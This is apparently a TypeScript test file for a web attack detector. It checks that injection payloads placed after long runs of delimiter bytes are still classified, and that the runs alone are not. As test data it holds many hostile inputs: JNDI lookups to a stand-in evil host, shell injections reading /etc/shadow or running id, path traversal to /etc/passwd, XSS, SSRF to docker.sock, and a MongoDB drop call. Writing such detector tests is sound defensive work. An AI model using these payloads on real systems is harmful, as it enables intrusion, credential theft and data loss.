// Long runs of the bytes the detectors key on ("{{{{…", "${${…", newlines, "..;..;…") used to make the
// attack detectors quadratic: 8 KiB of "{{" took 0.4 s, so one 1 MiB body could hold an Envoy worker for a
// minute. The detectors now skip what they already read (filter/inspect/attack.ts); the speed is measured in
// bench/inspect-bench.ts. Here: a payload after such a run is still found, and the run alone is not an attack.
import { test } from "node:test";
import assert from "node:assert/strict";
import { loadHarnessExports, withBytes } from "./harness.ts";

const CLASSES = ["sqli", "xss", "traversal", "rfi", "cmdi", "ssrf", "xxe", "jndi", "ssti", "protocol", "malware", "exfiltration", "limits", "graphql", "prototype_pollution", "session_fixation", "scanner"];
const h = loadHarnessExports() as ReturnType<typeof loadHarnessExports> & { attackAny(p: number, n: number): number };
const detect = (v: string) => withBytes(h, v, (p, n) => { const c = h.attackAny(p, n); return c === 255 ? "none" : CLASSES[c]; });

const cases: Array<[string, string, string]> = [
  // [run, payload after it, class]
  ["{{", "{{7*7}}", "ssti"],
  ["{% ", "{{ config.items() }}", "ssti"],
  ["<% ", "<%= 7*7 %>", "ssti"],
  ["${", "${jndi:ldap://evil.example/a}", "jndi"],
  ["${x:", "${jndi:rmi://evil.example/a}", "jndi"],
  ["\n", "; cat /etc/shadow", "cmdi"],
  [" \n", "| id", "cmdi"],
  ["..;", "/../../../etc/hosts", "traversal"],
  // The quality pass's rules: their scans are bounded (comments, words, script closes searched once).
  ["*/[\"", " window['alert'](1)", "xss"],
  ["<script type=\"application/json\">", "<script>alert(1)</script>", "xss"],
  [" -c ", "; sh -c \"id\"", "cmdi"],
  ["url( ", " x:url(javascript:alert(1))", "xss"],
  ["a=1&", "&n=5 or 6=6", "sqli"],
  // The ninth session's rules: Flight references, unix-socket URLs and the gap before a PHP call are read once.
  ["$1:", " $3:constructor:constructor", "cmdi"],
  ["unix:", " unix:/var/run/docker.sock|http://localhost/", "ssrf"],
  ["*/(", " exec/*x*/()", "cmdi"],
  // The tenth session's: busy loops, MongoDB shell calls, indirect dialog calls, "${@" calls, base64 text.
  ["do}while(", " ;var d=new Date(); do{c=new Date();}while(c-d<9)", "sqli"],
  ["db.", " db.users.drop()", "sqli"],
  ["(alert)(", " (alert)(1)", "xss"],
  ["${@", " ${@print(md5(1))}", "cmdi"],
  // The eleventh session's: concatenated and bracketed callables, database statements, tags inside words.
  ["'e'+", " $y='sys'.'tem';($y)('id');", "cmdi"],
  ["(system)", "", "cmdi"],
  ["create function ", " create function f() returns int", "sqli"],
  ["<xs:include ", " <xs:include schemaLocation=\"http://x.example/a.xsd\"/>", "xxe"],
  ["a<x>", " al<x>ert(1)", "xss"],
  // The twelfth session's: spelled separators (a second read of the value), longer overlong UTF-8, variable calls.
  ["%25", "..0x2f..0x2fetc0x2fpasswd", "traversal"],
  ["%c1%pc", " ..%c1%pc..%c1%pcetc%c1%pcpasswd", "traversal"],
  ["%e0%80%af", " ..%e0%80%af..%e0%80%afetc%e0%80%afpasswd", "traversal"],
  ["$a ", " $f(101)", "cmdi"],
  // The thirteenth session's: an alias's call is looked for within 256 bytes of its assignment; data: URIs from '4'.
  ["a=b;", "a=alert;a(1)", "xss"],
  ["4,", " <link href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>", "xss"],
  ["x.", " document.cookie='a=b'", "xss"],
  ["&if %a", " & IF \"%~1\"==\"/?\" x", "cmdi"],
];

test("a payload after a long run of delimiters is still found", () => {
  for (const [run, payload, cls] of cases) {
    const v = run.repeat(Math.ceil(3000 / run.length)) + payload;
    assert.equal(detect(v), cls, `${JSON.stringify(run)} x ${Math.ceil(3000 / run.length)} then ${payload}`);
  }
});

test("a run of delimiters followed by a template expression far from any opening is judged by the nearest one", () => {
  // An unclosed "{{" reads at most 256 bytes: a marker 1,000 bytes of prose later is not part of it.
  assert.equal(detect("{{ " + "lorem ipsum ".repeat(90) + " 7*7"), "none");
  assert.equal(detect("{{ 7*7"), "ssti");
});

test("runs of delimiters alone are not attacks", () => {
  for (const run of ["\n", " \n", "..;", "{%", "<%", "*/[\"", " -c ", "url( ", "a[b]", "http:", "@{", "$1:", "unix:", ")(", " \n    x:", "1:=", "db.", "PHNjcmlwdD4", "a::b ", "/*!", "declare @", "x.y.z(", "'a'.",
    "%25", "0x2f", "%c0%5e", "[]+", "a=alert;", "base64,", "x.location", "(5=6),"]) {
    assert.equal(detect(run.repeat(2000)), "none", JSON.stringify(run));
  }
});
